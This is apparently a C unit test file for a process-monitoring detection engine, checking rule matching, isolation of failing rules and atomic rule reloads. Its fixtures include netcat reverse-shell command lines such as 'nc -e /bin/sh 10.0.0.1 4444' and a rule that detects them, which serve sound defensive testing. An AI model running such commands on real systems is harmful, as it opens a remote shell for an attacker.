/* Detection over ingested batches, with a fake alerts_submit() that records
 * what the engine submits. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <errno.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include "agent/alert.h"
#include "agent/detect.h"
#include "config.h"
#include "store.h"
#include "timeutil.h"

/* ---- the fake alert manager ---- */
struct fake_alerts {
	int submitted;
	char rule_id[64];
	int32_t pid;
	char proc_name[64];
	char match_json[512];
};

int
alerts_submit(struct alerts *a, const struct alert_match *m)
{
	struct fake_alerts *f = (struct fake_alerts *)a;
	char *js = m->match ? json_dumps(m->match, JSON_SORT_KEYS) : NULL;

	assert_non_null(m->proc);
	f->submitted++;
	snprintf(f->rule_id, sizeof(f->rule_id), "%s", m->rule_id);
	f->pid = m->proc->pid;
	snprintf(f->proc_name, sizeof(f->proc_name), "%s", m->proc->name ? m->proc->name : "");
	snprintf(f->match_json, sizeof(f->match_json), "%s", js ? js : "");
	free(js);
	return 0;
}

static char dir[] = "/tmp/test-detect-XXXXXX";
static char rules_dir[300], dbpath[300];

static void
write_rule(const char *file, const char *text)
{
	char path[400];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", rules_dir, file);
	assert_non_null(f = fopen(path, "we"));
	assert_true(fputs(text, f) >= 0);
	assert_int_equal(fclose(f), 0);
}

static void
ev_make(struct process_event *e, enum proc_event_type type, int32_t pid, uint64_t start,
        const char *name, const char *cmd)
{
	process_event_init(e);
	e->type = type;
	e->time = time_now_ms();
	e->proc.pid = pid;
	e->proc.ppid = 1;
	e->proc.start_time = start;
	e->proc.name = strdup(name);
	e->proc.executable_path = strdup("/usr/bin/x");
	e->proc.command_line = strdup(cmd);
	e->proc.user_id = 1000;
}

struct fixture {
	struct store *st;
	struct detect *d;
	struct fake_alerts fa;
	int observed;
	char observed_sha[65];
};

static void
observer(void *ctx, const struct rule *const *rules, size_t n, unsigned rejected)
{
	struct fixture *f = ctx;

	(void)rejected;
	f->observed++;
	if (n > 0)
		snprintf(f->observed_sha, sizeof(f->observed_sha), "%s", rules[0]->sha256);
}

static int
setup(void **state)
{
	static struct fixture f;
	struct de_config cfg;
	struct errbuf err = { { 0 } };
	const char *dirs[1] = { rules_dir };

	memset(&f, 0, sizeof(f));
	memset(&cfg, 0, sizeof(cfg));
	/* Generous, so only the rules built to be slow ever time out. */
	cfg.detection.rule_timeout_ms = 500;
	assert_non_null(mkdtemp(dir));
	snprintf(rules_dir, sizeof(rules_dir), "%s/rules", dir);
	snprintf(dbpath, sizeof(dbpath), "%s/events.db", dir);
	assert_int_equal(mkdir(rules_dir, 0700), 0);
	write_rule("a-nc.yaml",
	           "id: nc-exec\nname: netcat with -e\nseverity: high\n"
	           "category: execution\nsql: |\n  SELECT pid, name, command_line AS cmd,"
	           " 42 AS answer\n  FROM processes WHERE name = 'nc' AND command_line"
	           " LIKE '%-e %'\n");
	/* Passes validation, but backtracks catastrophically on one input. */
	write_rule("b-fragile.yaml", "id: fragile\nname: f\nseverity: low\nsql: SELECT pid FROM"
	                             " processes WHERE command_line REGEXP '^(x+)+$'\n");
	/* Passes validation (16 sample rows) but never ends on a large batch. */
	write_rule("c-slow.yaml",
	           "id: slow\nname: s\nseverity: low\nsql: WITH RECURSIVE c(x) AS (SELECT 1"
	           " UNION ALL SELECT x + 1 FROM c WHERE x < (SELECT CASE WHEN count(*) > 50"
	           " THEN 1000000000 ELSE 10 END FROM processes)) SELECT pid FROM processes, c"
	           " WHERE x = 0\n");
	/* Passes validation but floods rows on a large batch. */
	write_rule("c-flood.yaml",
	           "id: flood\nname: f\nseverity: low\nsql: WITH RECURSIVE c(x) AS (SELECT 1"
	           " WHERE (SELECT count(*) FROM processes) > 50 UNION ALL SELECT x + 1 FROM c"
	           " WHERE x < 100000) SELECT x AS pid FROM c\n");
	write_rule("d-bad.yaml", "id: bad\nname: b\nseverity: low\nsql: PRAGMA user_version\n");
	write_rule("e-off.yaml", "id: off\nname: o\nseverity: low\nenabled: false\nsql: SELECT pid"
	                         " FROM processes\n");
	assert_int_equal(store_open(dbpath, STORE_RW, &f.st), 0);
	assert_int_equal(detect_new(&f.d, f.st, &cfg, (struct alerts *)&f.fa, &err), 0);
	detect_set_rules_observer(f.d, observer, &f);
	assert_int_equal(detect_load_rules(f.d, dirs, 1, &err), 1); /* d-bad rejected */
	assert_int_equal(f.observed, 1);
	assert_int_equal(strlen(f.observed_sha), 64);
	*state = &f;
	return 0;
}

static int
teardown(void **state)
{
	struct fixture *f = *state;
	char cmd[400];

	detect_free(f->d);
	store_close(f->st);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	return system(cmd) == 0 ? 0 : -1;
}

/* Ingests evs, then evaluates; returns the number of matches. */
static int
feed(struct fixture *f, struct process_event *evs, size_t n)
{
	bool fresh[64];
	int rc;

	assert_true(n <= 64);
	assert_true(store_ingest_batch(f->st, "procmond", evs, n, fresh) >= 0);
	rc = detect_on_batch(f->d, evs, fresh, n);
	assert_true(rc >= 0);
	return rc;
}

static void
test_match_once(void **state)
{
	struct fixture *f = *state;
	struct process_event evs[3];
	json_t *m;

	ev_make(&evs[0], PROC_EV_START, 10, 1000, "nc", "nc -e /bin/sh 10.0.0.1 4444");
	ev_make(&evs[1], PROC_EV_START, 11, 1001, "bash", "bash -i");
	/* The same nc instance again in the same batch: still one row. */
	ev_make(&evs[2], PROC_EV_MODIFIED, 10, 1000, "nc", "nc -e /bin/sh 10.0.0.1 4444");
	evs[0].seq = 1;
	evs[1].seq = 2;
	evs[2].seq = 3;
	f->fa.submitted = 0;
	assert_int_equal(feed(f, evs, 3), 1);
	assert_int_equal(f->fa.submitted, 1);
	assert_string_equal(f->fa.rule_id, "nc-exec");
	assert_int_equal(f->fa.pid, 10);
	assert_string_equal(f->fa.proc_name, "nc");
	m = json_loads(f->fa.match_json, 0, NULL);
	assert_non_null(m);
	assert_int_equal(json_integer_value(json_object_get(m, "answer")), 42);
	assert_string_equal(json_string_value(json_object_get(m, "cmd")),
	                    "nc -e /bin/sh 10.0.0.1 4444");
	json_decref(m);

	/* Replayed events (already stored) are not evaluated again. */
	assert_int_equal(feed(f, evs, 3), 0);
	/* Seen again in a snapshot: not a new evaluation. */
	process_event_clear(&evs[2]);
	ev_make(&evs[2], PROC_EV_SNAPSHOT, 10, 1000, "nc", "nc -e /bin/sh 10.0.0.1 4444");
	assert_int_equal(feed(f, &evs[2], 1), 0);
	/* Its record changed: evaluated again. */
	process_event_clear(&evs[2]);
	ev_make(&evs[2], PROC_EV_MODIFIED, 10, 1000, "nc", "nc -e /bin/bash 10.0.0.1 4444");
	assert_int_equal(feed(f, &evs[2], 1), 1);
	/* Stopped, then the pid reused by a new instance first seen in a snapshot. */
	process_event_clear(&evs[2]);
	ev_make(&evs[2], PROC_EV_STOP, 10, 1000, "nc", "nc");
	assert_int_equal(feed(f, &evs[2], 1), 0);
	process_event_clear(&evs[2]);
	ev_make(&evs[2], PROC_EV_SNAPSHOT, 10, 2000, "nc", "nc -e /bin/sh x 1");
	assert_int_equal(feed(f, &evs[2], 1), 1);
	/* A non-matching process: nothing. */
	process_event_clear(&evs[1]);
	ev_make(&evs[1], PROC_EV_START, 12, 1002, "nc", "nc -l 8080");
	assert_int_equal(feed(f, &evs[1], 1), 0);
	for (int i = 0; i < 3; i++)
		process_event_clear(&evs[i]);
}

static json_t *
rule_health(json_t *h, const char *id)
{
	json_t *r;
	size_t i;

	json_array_foreach(json_object_get(h, "rules"), i,
	                   r) if (strcmp(json_string_value(json_object_get(r, "id")), id) ==
	                          0) return r;
	return NULL;
}

static void
test_failing_rules_isolated(void **state)
{
	struct fixture *f = *state;
	struct process_event evs[64];
	int nc_before;
	json_t *h;

	/* One batch: an input that makes 'fragile' fail, 60 rows that make
	 * 'slow' time out, and a netcat that 'nc-exec' must still catch. */
	ev_make(&evs[0], PROC_EV_START, 100, 1, "x",
	        "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx!");
	ev_make(&evs[1], PROC_EV_START, 101, 1, "nc", "nc -e /bin/sh h 1");
	for (int i = 2; i < 64; i++)
		ev_make(&evs[i], PROC_EV_START, 200 + i, 1, "filler", "filler");
	h = detect_health_json(f->d);
	nc_before = (int)json_integer_value(json_object_get(rule_health(h, "nc-exec"), "matches"));
	json_decref(h);
	f->fa.submitted = 0;
	assert_int_equal(feed(f, evs, 64), 1);
	assert_int_equal(f->fa.submitted, 1);
	assert_int_equal(f->fa.pid, 101);
	h = detect_health_json(f->d);
	assert_non_null(h);
	assert_int_equal(json_integer_value(json_object_get(h, "rules_loaded")), 5);
	assert_int_equal(json_integer_value(json_object_get(h, "rules_rejected")), 1);
	assert_int_equal(json_integer_value(json_object_get(rule_health(h, "fragile"), "errors")),
	                 1);
	assert_non_null(strstr(
	    json_string_value(json_object_get(rule_health(h, "fragile"), "last_error")), "regexp"));
	assert_int_equal(json_integer_value(json_object_get(rule_health(h, "slow"), "timeouts")),
	                 1);
	assert_int_equal(json_integer_value(json_object_get(rule_health(h, "flood"), "errors")), 1);
	assert_non_null(strstr(
	    json_string_value(json_object_get(rule_health(h, "flood"), "last_error")), "rows"));
	/* Every batch with rows ran nc-exec; the fixture's earlier batches matched 3. */
	assert_int_equal(json_integer_value(json_object_get(rule_health(h, "nc-exec"), "matches")),
	                 f->fa.submitted + nc_before);
	/* The slow rule spent the most time: it heads "slowest". */
	assert_string_equal(json_string_value(json_object_get(
	                        json_array_get(json_object_get(h, "slowest"), 0), "id")),
	                    "slow");
	assert_true(json_array_size(json_object_get(h, "slowest")) <= DETECT_SLOWEST);
	assert_false(json_is_true(json_object_get(rule_health(h, "off"), "enabled")));
	assert_int_equal(json_integer_value(json_object_get(rule_health(h, "off"), "evaluations")),
	                 0);
	json_decref(h);
	for (int i = 0; i < 64; i++)
		process_event_clear(&evs[i]);
}

static void
test_reload_atomic(void **state)
{
	struct fixture *f = *state;
	const char *bad[1] = { "/nonexistent/rules" };
	const char *good[1] = { rules_dir };
	struct errbuf err = { { 0 } };
	struct process_event ev;
	json_t *h;

	assert_true(detect_load_rules(f->d, bad, 1, &err) < 0);
	assert_non_null(strstr(err.msg, "/nonexistent/rules"));
	/* The old set is still running. */
	ev_make(&ev, PROC_EV_START, 300, 5, "nc", "nc -e sh h 2");
	assert_int_equal(feed(f, &ev, 1), 1);
	process_event_clear(&ev);
	/* A reload with one rule fewer swaps in the new set. */
	snprintf(err.msg, sizeof(err.msg), "%s/c-slow.yaml", rules_dir);
	assert_int_equal(unlink(err.msg), 0);
	assert_int_equal(detect_load_rules(f->d, good, 1, &err), 1);
	h = detect_health_json(f->d);
	assert_int_equal(json_integer_value(json_object_get(h, "rules_loaded")), 4);
	assert_null(rule_health(h, "slow"));
	json_decref(h);
	assert_int_equal(f->observed, 2);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_match_once),
		cmocka_unit_test(test_failing_rules_isolated),
		cmocka_unit_test(test_reload_atomic),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
